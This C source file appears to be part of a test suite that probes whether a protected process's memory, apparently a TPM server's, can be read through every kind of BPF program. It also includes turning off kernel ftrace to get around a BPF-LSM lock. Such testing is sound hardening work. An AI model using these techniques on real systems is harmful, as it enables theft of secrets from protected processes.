/* SPDX-License-Identifier: Apache-2.0 */
/*
 * BPF of every kind: load the reading program as this kind, attach it, and go
 * through the process's memory.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>

#include "attack.h"
#include "code.h"
#include "event.h"

#define SECONDS 60

/* A server that waits runs nothing: somebody must knock. */
static void
knock(struct code *c)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	auto_close int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);

	(void)snprintf(to.sun_path, sizeof(to.sun_path), "%s", c->socket);
	(void)connect(fd, (const void *)&to, sizeof(to));
}

static void
search(const struct attack *a, int target, struct code *c, struct result *r)
{
	if (target == TARGET_TPM && c->kick == NULL) {
		c->socket = a->socket;
		c->kick = knock;
	}
	search_memory(a, target, code_read, c, SECONDS, r);
	if (c->dead && r->verdict != VERDICT_FOUND)
		result_set(r, VERDICT_NOTHING,
		    "loaded and attached; it did not run in the process");
	code_free(c);
}

/* Raw tracepoints, fentry and LSM programs attach by one command. */
static void
try_attached(const struct attack *a, int target, const struct code_kind *kind,
    const char *tracepoint, struct result *r)
{
	struct code c = CODE_INIT;
	union bpf_attr attr = { 0 };

	if (!code_load(&c, kind, a->pid[target], r))
		return;
	attr.raw_tracepoint.name = (uintptr_t)tracepoint;
	attr.raw_tracepoint.prog_fd = (uint32_t)c.prog_fd;
	c.link_fd = (int)code_bpf(BPF_RAW_TRACEPOINT_OPEN, &attr);
	if (c.link_fd < 0)
		result_errno(r, "loaded; attach");
	else
		search(a, target, &c, r);
}

static void
try_raw_tracepoint(const struct attack *a, int target, struct result *r)
{
	static const struct code_kind kind = {
		.type = BPF_PROG_TYPE_RAW_TRACEPOINT
	};

	try_attached(a, target, &kind, "sys_enter", r);
}

static void
try_fentry(const struct attack *a, int target, struct result *r)
{
	static const struct code_kind kind = { .type = BPF_PROG_TYPE_TRACING,
		.attach = BPF_TRACE_FENTRY,
		.function = "vfs_read" };

	try_attached(a, target, &kind, NULL, r);
}

static void
try_lsm(const struct attack *a, int target, struct result *r)
{
	static const struct code_kind kind = { .type = BPF_PROG_TYPE_LSM,
		.attach = BPF_LSM_MAC,
		.function = "bpf_lsm_file_permission" };

	try_attached(a, target, &kind, NULL, r);
}

/* BPF-LSM hangs on ftrace: with that off, a lock of it alone is gone. */
static void
try_without_ftrace(const struct attack *a, int target, struct result *r)
{
	int off = spit("/proc/sys/kernel/ftrace_enabled", "0");
	const char *said = off == 0 ? "0 written" : strerror(errno);
	struct result inner = { 0 };

	try_raw_tracepoint(a, target, &inner);
	if (off == 0)
		(void)spit("/proc/sys/kernel/ftrace_enabled", "1");
	result_set(r, inner.verdict, "%s, then %.300s", said, inner.text);
}

static void
run_iterator(struct code *c)
{
	union bpf_attr attr = { 0 };
	auto_close int fd = -1;
	char text[64];

	attr.iter_create.link_fd = (uint32_t)c->link_fd;
	fd = (int)code_bpf(BPF_ITER_CREATE, &attr);
	while (fd >= 0 && read(fd, text, sizeof(text)) > 0)
		continue;
}

/* Reads any address of any task, with no need for that task to run. */
static void
try_iterator(const struct attack *a, int target, struct result *r)
{
	static const struct code_kind kind = { .type = BPF_PROG_TYPE_TRACING,
		.attach = BPF_TRACE_ITER,
		.function = "bpf_iter_task",
		.iterator = true };
	union bpf_iter_link_info info = { 0 };
	struct code c = CODE_INIT;
	union bpf_attr attr = { 0 };

	if (!code_load(&c, &kind, a->pid[target], r))
		return;
	info.task.tid = (uint32_t)a->pid[target];
	attr.link_create.prog_fd = (uint32_t)c.prog_fd;
	attr.link_create.attach_type = BPF_TRACE_ITER;
	attr.link_create.iter_info = (uintptr_t)&info;
	attr.link_create.iter_info_len = sizeof(info);
	c.link_fd = (int)code_bpf(BPF_LINK_CREATE, &attr);
	c.kick = run_iterator;
	if (c.link_fd < 0)
		result_errno(r, "loaded; attach");
	else
		search(a, target, &c, r);
}

/* On a perf event: a kernel probe, or a clock that ticks in the process. */
static void
try_event(const struct attack *a, int target, uint32_t type,
    struct perf_event_attr *event, pid_t pid, struct result *r)
{
	const struct code_kind kind = { .type = type };
	struct code c = CODE_INIT;

	if (!code_load(&c, &kind, a->pid[target], r))
		return;
	c.link_fd = event_open(event, pid, pid < 0 ? 0 : -1);
	if (c.link_fd < 0 ||
	    ioctl(c.link_fd, PERF_EVENT_IOC_SET_BPF, c.prog_fd) != 0 ||
	    ioctl(c.link_fd, PERF_EVENT_IOC_ENABLE, 0) != 0)
		result_errno(r, "loaded; attach to a perf event");
	else
		search(a, target, &c, r);
}

static void
try_kprobe(const struct attack *a, int target, struct result *r)
{
	struct perf_event_attr event = { .size = sizeof(event),
		.type = event_type("kprobe"),
		.config1 = (uintptr_t) "vfs_read",
		.disabled = 1 };

	try_event(a, target, BPF_PROG_TYPE_KPROBE, &event, -1, r);
}

static void
try_clock(const struct attack *a, int target, struct result *r)
{
	struct perf_event_attr event = { .size = sizeof(event),
		.type = PERF_TYPE_SOFTWARE,
		.config = PERF_COUNT_SW_CONTEXT_SWITCHES,
		.sample_period = 1,
		.disabled = 1 };

	try_event(a, target, BPF_PROG_TYPE_PERF_EVENT, &event, a->pid[target],
	    r);
}

static int
root_cgroup(void)
{
	(void)mkdir("/tmp/attack-cgroup", 0700);
	(void)mount("cgroup2", "/tmp/attack-cgroup", "cgroup2", 0, NULL);
	return open("/tmp/attack-cgroup", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
}

static void
try_cgroup(const struct attack *a, int target, const struct code_kind *kind,
    struct result *r)
{
	auto_close int root = root_cgroup();
	struct code c = CODE_INIT;
	union bpf_attr attr = { 0 };

	if (!code_load(&c, kind, a->pid[target], r))
		return;
	attr.target_fd = (uint32_t)root;
	attr.attach_bpf_fd = (uint32_t)c.prog_fd;
	attr.attach_type = kind->attach;
	attr.attach_flags = BPF_F_ALLOW_MULTI;
	if (code_bpf(BPF_PROG_ATTACH, &attr) != 0) {
		result_errno(r, "loaded; attach to the root cgroup");
		return;
	}
	search_memory(a, target, code_read, &c, SECONDS, r);
	if (r->verdict != VERDICT_FOUND && (c.dead || kind->any))
		result_set(r, VERDICT_NOTHING,
		    "loaded and attached; it did not run in the process");
	attr.attach_flags = 0;
	(void)code_bpf(BPF_PROG_DETACH, &attr);
	code_free(&c);
	(void)umount2("/tmp/attack-cgroup", MNT_DETACH);
}

static void
try_cgroup_device(const struct attack *a, int target, struct result *r)
{
	static const struct code_kind kind = { .type =
						   BPF_PROG_TYPE_CGROUP_DEVICE,
		.attach = BPF_CGROUP_DEVICE,
		.verdict = 1 };

	try_cgroup(a, target, &kind, r);
}

static void
try_cgroup_sock(const struct attack *a, int target, struct result *r)
{
	static const struct code_kind kind = { .type =
						   BPF_PROG_TYPE_CGROUP_SOCK,
		.attach = BPF_CGROUP_INET_SOCK_CREATE,
		.verdict = 1 };

	try_cgroup(a, target, &kind, r);
}

static void
try_cgroup_skb(const struct attack *a, int target, struct result *r)
{
	static const struct code_kind kind = { .type = BPF_PROG_TYPE_CGROUP_SKB,
		.attach = BPF_CGROUP_INET_EGRESS,
		.any = true,
		.verdict = 1 };

	try_cgroup(a, target, &kind, r);
}

/* It runs in whoever sends to our socket. */
static void
try_socket_filter(const struct attack *a, int target, struct result *r)
{
	static const struct code_kind kind = { .type =
						   BPF_PROG_TYPE_SOCKET_FILTER,
		.any = true };
	auto_close int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct code c = CODE_INIT;

	if (!code_load(&c, &kind, a->pid[target], r))
		return;
	if (setsockopt(s, SOL_SOCKET, SO_ATTACH_BPF, &c.prog_fd,
		sizeof(c.prog_fd)) != 0)
		result_errno(r, "loaded; attach");
	else
		search(a, target, &c, r);
}

static const struct attempt list[] = {
	{ "bpf-raw-tracepoint", "read it by a raw tracepoint program",
	    try_raw_tracepoint, true, 90 },
	{ "bpf-no-ftrace", "write kernel.ftrace_enabled=0, then read it so",
	    try_without_ftrace, true, 90 },
	{ "bpf-iterator", "read it by a task iterator", try_iterator, true,
	    90 },
	{ "bpf-fentry", "read it by a program at vfs_read", try_fentry, true,
	    90 },
	{ "bpf-lsm", "read it by an LSM program", try_lsm, true, 90 },
	{ "bpf-kprobe", "read it by a kernel probe's program", try_kprobe, true,
	    90 },
	{ "bpf-perf-event", "read it by a perf event's program", try_clock,
	    true, 90 },
	{ "bpf-cgroup-device", "read it by a cgroup device program",
	    try_cgroup_device, true, 90 },
	{ "bpf-cgroup-sock", "read it by a cgroup socket program",
	    try_cgroup_sock, true, 90 },
	{ "bpf-cgroup-skb", "read it by a cgroup packet program",
	    try_cgroup_skb, true, 90 },
	{ "bpf-socket-filter", "read it by a socket filter", try_socket_filter,
	    true, 90 },
};

const struct group bpf_group = { "bpf", "BPF programs of every kind", list,
	ARRAY_LEN(list) };
